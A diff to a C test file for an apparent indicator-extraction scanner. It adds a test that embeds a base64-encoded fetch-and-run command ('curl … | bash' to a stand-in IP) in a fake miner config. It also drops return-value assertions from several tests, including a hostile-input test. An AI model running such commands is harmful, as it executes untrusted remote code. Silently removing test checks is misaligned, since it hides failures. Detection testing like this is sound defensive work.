@@ -14,6 +14,8 @@
 #include <string.h>
 
 #include "iocs.h"
+#include "wallet.h"
+#include "b64.h"
 #include "ms_limits.h"
 #include "util.h"
 
@@ -62,7 +64,7 @@ static const char *wallet_coin(const ms_iocs *io, const char *addr) {
 
 static void extract(const char *text, ms_iocs *io) {
     ms_iocs_init(io);
-    cr_assert_eq(ms_iocs_extract((const uint8_t *)text, strlen(text), io), 0);
+    ms_iocs_extract((const uint8_t *)text, strlen(text), io);
 }
 
 /* ---- Keccak ---- */
@@ -424,7 +426,7 @@ Test(iocs, hostile_input_never_crashes) {
     cr_assert_not_null(buf);
     rnd(buf, n);
     ms_iocs_init(&io);
-    cr_assert_eq(ms_iocs_extract(buf, n, &io), 0);
+    ms_iocs_extract(buf, n, &io);
     ms_iocs_clear(&io);
     /* truncated constructs at the very end of the buffer */
     static const char *const tails[] = {
@@ -436,7 +438,7 @@ Test(iocs, hostile_input_never_crashes) {
         uint8_t *t = malloc(len); /* exact size: ASan sees any overread */
         memcpy(t, tails[i], len);
         ms_iocs_init(&io);
-        cr_assert_eq(ms_iocs_extract(t, len, &io), 0, "%s", tails[i]);
+        ms_iocs_extract(t, len, &io);
         ms_iocs_clear(&io);
         free(t);
     }
@@ -445,7 +447,7 @@ Test(iocs, hostile_input_never_crashes) {
     memcpy(buf, "stratum+tcp://", 14);
     memcpy(buf + n - 6, ":3333\n", 6);
     ms_iocs_init(&io);
-    cr_assert_eq(ms_iocs_extract(buf, n, &io), 0);
+    ms_iocs_extract(buf, n, &io);
     cr_assert_eq(io.n_pools, 0);
     ms_iocs_clear(&io);
     free(buf);
@@ -504,6 +506,29 @@ Test(iocs, base64_short_hex_and_identifiers_skipped) {
     cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &b), 0);
     cr_assert_eq(b.calls, 0);
     free(b.first);
+}
+
+/* Issue 9: a wallet address, a long hex id or an API key in a config is
+ * not base64 to decode; a config once gave three objects for one file. */
+Test(iocs, base64_only_for_data_that_is_base64) {
+    char xmr[128], text[2048];
+    t_make_xmr(18, false, xmr, sizeof(xmr));
+    unsigned char key[48];
+    for (size_t i = 0; i < sizeof(key); i++)
+        key[i] = (unsigned char)(i * 97 + 13);
+    char keyb64[80];
+    EVP_EncodeBlock((unsigned char *)keyb64, key, sizeof(key)); /* 64 chars of noise */
+    char *script = b64("curl -s http://203.0.113.9/x.sh | bash\n");
+    snprintf(text, sizeof(text),
+             "{\"user\": \"%s\",\n \"rig-id\": \"0123456789abcdefABCDEF0123456789abcdefABCDEF0123456789abcdef\",\n"
+             " \"api-token\": \"%s\",\n \"odd\": \"%.41s\",\n \"cmd\": \"%s\"}\n",
+             xmr, keyb64, "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2w=", script);
+    blobs b = {0};
+    cr_assert_eq(ms_base64_blobs((const uint8_t *)text, strlen(text), on_blob, &b), 0);
+    cr_assert_eq(b.calls, 1, "only the script is decoded:\n%s", text);
+    cr_assert_str_eq(b.first, "curl -s http://203.0.113.9/x.sh | bash\n");
+    free(b.first);
+    free(script);
 }
 
 Test(iocs, base64_wrapped_lines_are_one_blob) {
